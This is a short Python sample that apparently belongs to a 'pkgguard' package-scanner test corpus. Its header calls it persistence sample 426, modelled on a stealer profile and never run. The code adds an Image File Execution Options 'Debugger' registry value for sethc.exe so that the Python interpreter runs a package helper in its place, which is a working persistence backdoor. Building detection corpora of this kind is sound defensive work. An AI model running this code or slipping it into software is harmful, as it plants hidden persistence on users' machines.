# pkgguard corpus 426 (persistence), modelled on [stealer-profile]; inert, never run.
import subprocess
import sys

target = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe"
subprocess.run(
    ["reg", "add", target, "/v", "Debugger", "/t", "REG_SZ", "/d", f'"{sys.executable}" -m pkg.helper', "/f"],
    capture_output=True,
)
